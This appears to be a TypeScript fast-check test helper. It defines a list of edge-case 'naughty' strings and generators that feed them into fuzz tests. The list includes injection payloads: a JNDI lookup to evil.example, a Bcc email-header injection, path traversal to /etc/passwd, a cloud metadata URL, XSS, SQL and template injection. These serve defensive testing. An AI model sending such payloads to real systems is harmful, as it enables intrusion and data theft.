import fc from "fast-check";

/** Texts that have broken programs before: each is data, and must stay data. */
export const NAUGHTY: readonly string[] = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "true",
  "\0",
  "\r\nBcc: eve@evil.example",
  "\u2028",
  "\ud800",
  "\u202e",
  "\ufeff",
  "ﷺ".repeat(100),
  "x".repeat(5_000),
  "../../etc/passwd",
  "%00",
  "%2e%2e%2f",
  "a#b#c",
  "TENANT#globex",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one.
  "${jndi:ldap://evil.example/x}",
  "{{ 7 * 7 }}",
  "<script>alert(1)</script>",
  "' OR 1=1 --",
  "__proto__",
  "constructor",
  "toString",
  "acme.eng",
  "globex:oncall",
  "*",
  "[object Object]",
  "👩‍👩‍👧‍👦",
  "🏳️‍🌈@exámple.example",
  '"quoted"@acme.example',
  "a@[127.0.0.1]",
  "http://169.254.169.254/latest/meta-data",
];

/** A naughty text, or any text at all. */
export const naughtyText = fc.oneof(fc.constantFrom(...NAUGHTY), fc.string({ unit: "binary" }));

/** Any JSON value whose texts are naughty. */
export const naughtyJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 4 },
    fc.constant(null),
    fc.boolean(),
    fc.double(),
    fc.integer(),
    naughtyText,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(naughtyText, tie("value"), { maxKeys: 4 }),
  ),
})).value;
